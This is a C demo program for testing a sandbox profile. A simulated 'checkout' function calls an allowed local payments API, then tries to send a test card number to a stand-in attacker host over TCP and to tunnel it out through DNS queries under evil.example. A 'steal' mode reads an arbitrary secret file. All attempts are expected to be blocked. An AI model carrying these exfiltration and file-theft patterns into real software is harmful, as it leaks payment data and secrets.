// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/*
 * The demo's "checkout" function and the backend it is allowed to call.
 *
 *   demo-fn serve ADDR PORT      answer every TCP connection with one line, until killed
 *   demo-fn checkout             what a compromised checkout function might do:
 *                                 1. call the payments API it needs (allowed by its profile)
 *                                 2. send the card data to an attacker's host (TCP, denied)
 *                                 3. tunnel it out through a rogue resolver (UDP, denied)
 *                                Prints one line per attempt and exits 0 when every outcome
 *                                is the expected one.
 *   demo-fn steal FILE           read FILE and print it (a secret the profile does not name:
 *                                the process gets EPERM, or is killed before it sees a byte)
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int addr_of(const char *ip, int port, struct sockaddr_in *sa)
{
	memset(sa, 0, sizeof(*sa));
	sa->sin_family = AF_INET;
	sa->sin_port = htons((uint16_t)port);
	return inet_pton(AF_INET, ip, &sa->sin_addr) == 1 ? 0 : -1;
}

static int serve(const char *ip, int port)
{
	struct sockaddr_in sa;
	int fd = socket(AF_INET, SOCK_STREAM, 0), one = 1;

	if (fd < 0 || addr_of(ip, port, &sa))
		return 1;
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(fd, (struct sockaddr *)&sa, sizeof(sa)) || listen(fd, 16)) {
		perror("demo-fn serve");
		return 1;
	}
	for (;;) {
		int c = accept(fd, NULL, NULL);
		static const char reply[] = "payment authorised\n";

		if (c < 0)
			continue;
		if (write(c, reply, sizeof(reply) - 1) < 0)
			perror("demo-fn serve: write");
		close(c);
	}
}

/* 0 on success, else errno. */
static int attempt(const char *what, int type, const char *ip, int port, char *reply, size_t len)
{
	struct sockaddr_in sa;
	int fd, err = 0;
	ssize_t n;

	if (addr_of(ip, port, &sa))
		return EINVAL;
	fd = socket(AF_INET, type, 0);
	if (fd < 0)
		return errno;
	if (type == SOCK_STREAM) {
		if (connect(fd, (struct sockaddr *)&sa, sizeof(sa)))
			err = errno;
		else if (reply && (n = read(fd, reply, len - 1)) > 0)
			reply[n] = '\0';
	} else if (sendto(fd, what, strlen(what), 0, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		err = errno;
	}
	close(fd);
	return err;
}

static int checkout(void)
{
	char reply[128] = "";
	int bad = 0, err;

	err = attempt("payments", SOCK_STREAM, "127.0.0.1", 8080, reply, sizeof(reply));
	printf("  checkout -> payments API   tcp 127.0.0.1:8080   %s%s",
	       err ? strerror(err) : "ok: ", err ? "\n" : reply);
	bad += err != 0;

	err = attempt("card=4111111111111111", SOCK_STREAM, "127.0.0.66", 4444, NULL, 0);
	printf("  checkout -> attacker host  tcp 127.0.0.66:4444  %s\n",
	       err ? strerror(err) : "ok");
	bad += err != EPERM;

	err = attempt("4111111111111111.evil.example", SOCK_DGRAM, "127.0.0.99", 53, NULL, 0);
	printf("  checkout -> rogue resolver udp 127.0.0.99:53    %s\n",
	       err ? strerror(err) : "ok");
	bad += err != EPERM;
	return bad ? 1 : 0;
}

static int steal(const char *path)
{
	char buf[128];
	int fd = open(path, O_RDONLY);
	ssize_t n;

	if (fd < 0) {
		printf("  steal    -> %-28s %s\n", path, strerror(errno));
		return 1;
	}
	n = read(fd, buf, sizeof(buf));
	printf("  steal    -> %-28s read %zd bytes\n", path, n);
	close(fd);
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 4 && !strcmp(argv[1], "serve"))
		return serve(argv[2], atoi(argv[3]));
	if (argc == 2 && !strcmp(argv[1], "checkout"))
		return checkout();
	if (argc == 3 && !strcmp(argv[1], "steal"))
		return steal(argv[2]);
	fprintf(stderr, "usage: demo-fn serve ADDR PORT | demo-fn checkout | demo-fn steal FILE\n");
	return 2;
}
